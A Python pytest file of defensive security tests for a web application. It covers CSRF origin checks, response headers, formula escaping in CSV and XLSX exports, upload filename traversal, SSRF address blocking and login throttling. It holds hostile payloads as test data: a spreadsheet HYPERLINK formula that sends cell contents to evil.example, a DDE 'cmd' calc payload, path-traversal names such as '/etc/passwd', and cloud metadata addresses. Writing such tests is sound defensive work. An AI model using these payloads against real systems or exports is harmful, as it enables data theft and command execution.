"""Forms, files, addresses and headers, tried with what somebody would send who wants in: every form and export is walked."""

import csv
import io
import re
import zipfile
from contextlib import closing

import pytest
from openpyxl import load_workbook

from pipelines.quotes import collections
from pipelines.quotes.collections import annotate
from pipelines.store import connect, insights, prepare
from pipelines.store.filters import Filters
from pipelines.teams import sending
from tests.api import signing
from tests.api.conftest import NOW, fill
from tests.api.test_accounts_roles import ALL, address

RUN = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "＝",
    "＋",
    "－",
    "＠",
)  # what a spreadsheet takes for the beginning of a formula
HOSTILE = ('=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1")


@pytest.fixture(scope="module")
def ours(tmp_path_factory):
    """(the server, its settings, the ids that stand in addresses)."""
    settings = signing.settings_of(tmp_path_factory.mktemp("more"))
    prepare(settings.database_file)
    with closing(connect(settings.database_file)) as db:
        fill(db, count=24)
        signing.add(db, "admin")
        for n, text in enumerate(HOSTILE):
            db.execute(
                "UPDATE conversations SET account = ?, contact = ?, job_title = ?, rep = ?, stage = ?, title = ?, file = ? WHERE rowid = ?",
                [*[text] * 7, n + 1],
            )
            db.execute(
                "UPDATE conversation_fields SET value = ? WHERE conversation_id = (SELECT id FROM conversations WHERE rowid = ?)",
                [text, n + 1],
            )
        db.execute(
            "UPDATE problems SET record = ?, reason = ?, file = ?", ['{"=1+1": "=cmd|x"}', HOSTILE[0], HOSTILE[0]]
        )
        db.conn.commit()
        quotes = [one.id for one in insights.quotes(db, Filters(), limit=6)]
        made, _ = collections.create(db, title=HOSTILE[0], note=HOSTILE[1], quotes=quotes, now=NOW, actor=HOSTILE[2])
        for n, one in enumerate(quotes):
            annotate(db, made, one, HOSTILE[n % len(HOSTILE)], now=NOW, actor="test")
    return signing.serve(settings, signing.Time()), settings, made


@pytest.fixture(scope="module")
def client(ours):
    client = signing.browser(ours[0])
    assert signing.sign_in(client, "admin@example.com").status_code == 303
    return client


CHANGING = [(method, path) for method, path in ALL if method in ("POST", "PUT", "PATCH", "DELETE")]


def test_no_form_at_all_works_from_a_page_elsewhere(client):
    """With the cookie: from another site, another port, a sandboxed frame, and with nobody to vouch for it."""
    claims = (
        {"origin": "http://evil.example"}, {"origin": "null"}, {"origin": "http://localhost:9999"}, {"sec-fetch-site": "same-site"},
        {"origin": "http://localhost", "sec-fetch-site": "cross-site"}, {},
    )  # fmt: skip
    taken = []
    for n, (method, path) in enumerate(CHANGING):
        claim = claims[n % len(claims)]
        request = client.build_request(method, address(path), headers={"accept": "text/html", **claim})
        if "origin" not in claim:
            del request.headers["origin"]
        answer = client.send(request, follow_redirects=False)
        # Who comes in at all is no change of anything: the login has no session yet, and forges nobody's.
        if answer.status_code != 403 and not (
            claim == {} and path in ("/login", "/settings/first", "/invitations/{code}")
        ):
            taken.append((method, path, claim, answer.status_code))
    assert len(CHANGING) > 180 and taken == []


LOOKING = [path for method, path in ALL if method == "GET"]


def test_every_answer_says_what_it_is_cannot_be_framed_and_is_kept_by_no_other_cache(client):
    wrong = {}
    for path in LOOKING:
        answer = client.get(address(path), headers={"accept": "text/html"})
        told = answer.headers
        cache = told.get("cache-control", "")
        bad = [
            told.get("x-content-type-options") != "nosniff", told.get("x-frame-options") != "DENY",
            "frame-ancestors 'none'" not in told.get("content-security-policy", ""),
            answer.content and answer.status_code != 304 and not told.get("content-type"),
            "public" in cache and not path.startswith("/static"),
            not path.startswith(("/static", "/healthz", "/readyz")) and "no-store" not in cache,
        ]  # fmt: skip
        if any(bad):
            wrong[path] = bad, cache
    assert wrong == {}


EXPORTS = (
    *(f"/api/v1/{kind}?format={format}" for kind in ("reports/trends", "reports/competitors", "reports/voice", "reports/outcomes", "plan") for format in ("csv", "xlsx")),
    "/api/v1/reports/trends?kind=objection&by=segment&format=csv", "/api/v1/reports/trends?kind=objection&by=account&format=xlsx",
    "/api/v1/reports/trends?kind=objection&by=stage&format=csv", "/api/v1/quotes/export?format=csv", "/api/v1/quotes/export?format=xlsx",
    "/collections/{made}/export?format=csv&style=full", "/collections/{made}/export?format=xlsx&style=full",
    "/api/v1/batches/1/problems.csv?every=true", "/uploads/1/problems.csv?every=true", "/uploads/1/known.csv", "/accounts.csv",
    "/settings/audit?format=csv", "/settings/audit.csv", "/api/v1/signals?format=csv", "/accounts?format=csv", "/api/v1/audit?format=csv",
    "/reports/handover?format=csv", "/api/v1/reports/handover?format=csv", "/api/v1/reports/material?format=csv", "/reports/personas/export?format=csv",
)  # fmt: skip


def test_no_cell_of_an_export_begins_a_formula(client, ours):
    read, bad = {}, []
    for path in EXPORTS:
        answer = client.get(path.format(made=ours[2]))
        kind = answer.headers.get("content-type", "")
        cells: list = []
        if answer.status_code == 200 and kind.startswith("text/csv"):
            cells = [cell for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))) for cell in row]
        elif answer.status_code == 200 and "spreadsheetml" in kind:
            book = load_workbook(io.BytesIO(answer.content))
            cells = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
            bad += [
                (path, "formula")
                for sheet in book
                for row in sheet.iter_rows()
                for cell in row
                if cell.data_type == "f"
            ]
            cells = []  # a text cell of a workbook is text, whatever it begins with
        read[path] = answer.status_code, len(cells)
        bad += [
            (path, cell[:30])
            for cell in cells
            if str(cell).startswith(RUN) and not re.fullmatch(r"[+-]?[\d.,]+ ?%?", cell)
        ]
    assert bad == []
    assert sum(status == 200 for status, _ in read.values()) > 12, read


@pytest.mark.parametrize(
    "name",
    ["../../x.csv", "/etc/passwd", "..\\..\\x.csv", "C:\\x.csv", "a\x00b.csv", "x" * 5000 + ".csv", "CON.csv", "a/../../b.csv",
     "\u202egpj.csv", "ﬁ．．／x.csv", ".", "..", "", " ", "~/x.csv", "-rf.csv", "a\nb.csv", "x.csv\u2028y", "\ud83d.csv".encode("utf-8", "replace").decode()],
)  # fmt: skip
def test_no_name_of_an_uploaded_file_leads_out_of_its_folder(client, ours, name):
    settings = ours[1]
    before = {file for file in settings.home.rglob("*") if settings.uploads not in file.parents}
    content = b"Date,Account,Notes\n2026-03-01,Acme,The price is far too high for us\n"
    with io.BytesIO() as packed:
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr(name or "x", content)
        inside = packed.getvalue()
    for files in ({"files": (name, content)}, {"files": ("all.zip", inside)}):
        answer = client.post("/api/v1/batches", files=files, data={"dry_run": "true"})
        assert answer.status_code < 500, answer.text
        answer = client.post("/uploads", files=files, data={"action": "check"})
        assert answer.status_code < 500, answer.text
    after = {file for file in settings.home.rglob("*") if settings.uploads not in file.parents}
    assert {file.name for file in after - before} <= {"uploads", "parley.db-wal", "parley.db-shm"}
    assert all(settings.uploads in file.resolve().parents for file in settings.uploads.rglob("*"))


@pytest.mark.parametrize(
    "target", ["169.254.169.254", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::", "fe80::1", "0.0.0.0", "::",
               "224.0.0.1", "ff02::1", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "fd20:ce::254", "64:ff9b:1::a9fe:a9fe", "::ffff:0:a9fe:a9fe"]
)  # fmt: skip
def test_a_name_that_means_a_forbidden_address_is_not_called(monkeypatch, target):
    """Also where only one of a name's addresses is forbidden: which one is called is nobody's choice."""
    family = 10 if ":" in target else 2
    monkeypatch.setattr(
        sending.socket,
        "getaddrinfo",
        lambda *_, **__: [(2, 1, 6, "", ("93.184.216.34", 80)), (family, 1, 6, "", (target, 80))],
    )
    monkeypatch.setattr(sending, "_connected", lambda *_: pytest.fail("it was called"))
    with pytest.raises(sending.Refused, match="nothing there"):
        sending.webhook("http://rebinding.example/x", {}, secret="s", delivery="d")


def test_guessing_over_many_accounts_from_one_address_is_slowed(ours):
    client = signing.browser(signing.serve(ours[1], signing.Time()))
    tried = [signing.sign_in(client, f"person{n}@example.com", "guess").status_code for n in range(110)]
    assert tried[0] == 401 and tried[-1] == 429 and tried.count(401) <= 100
